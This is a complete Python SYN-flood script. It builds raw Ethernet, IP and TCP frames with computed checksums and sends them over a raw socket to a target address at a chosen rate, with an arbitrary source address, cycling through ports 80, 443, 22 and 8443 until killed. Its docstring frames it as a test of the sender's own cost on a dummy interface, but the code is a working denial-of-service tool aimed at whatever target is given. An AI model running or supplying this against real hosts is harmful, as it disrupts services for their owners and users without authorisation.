"""A flood of SYNs from one client: `python flood.py INTERFACE GATEWAY_MAC SOURCE TARGET RATE`.

Each from a port of its own, to ports 80, 443 and others in turn, `RATE` a second, until it is
killed. On a dummy interface it shows what making the flood costs the machine by itself.
"""

import itertools
import socket
import struct
import sys
import time

PORTS = (80, 443, 22, 8443)
BURST = 50


def main(interface: str, mac: str, source: str, target: str, rate: int) -> None:
    """Sends until it is killed."""
    sender = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sender.bind((interface, 0))
    frames = [
        frame(sender.getsockname()[4], bytes.fromhex(mac.replace(":", "")), source, target, n)
        for n in range(20_000)
    ]
    begun = time.monotonic()
    for sent, each in enumerate(itertools.cycle(frames), 1):
        try:
            sender.send(each)
        except OSError:
            time.sleep(0.001)  # the queue is full: as fast as it goes, then
        if sent % BURST == 0:
            time.sleep(max(0.0, begun + sent / rate - time.monotonic()))


def frame(ours: bytes, theirs: bytes, source: str, target: str, number: int) -> bytes:
    """One SYN in its Ethernet frame."""
    addresses = socket.inet_aton(source) + socket.inet_aton(target)
    ports = struct.pack("!HH", 20_000 + number % 40_000, PORTS[number % len(PORTS)])
    tcp = ports + struct.pack("!IIBBHHH", number, 0, 5 << 4, 2, 64240, 0, 0)
    tcp = tcp[:16] + checksum(addresses + struct.pack("!HH", 6, len(tcp)) + tcp) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0) + addresses
    ip = ip[:10] + checksum(ip) + ip[12:]
    return theirs + ours + b"\x08\x00" + ip + tcp


def checksum(data: bytes) -> bytes:
    """RFC 1071."""
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    folded: int = ~(total + (total >> 16)) & 0xFFFF
    return folded.to_bytes(2)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4], int(sys.argv[5]))
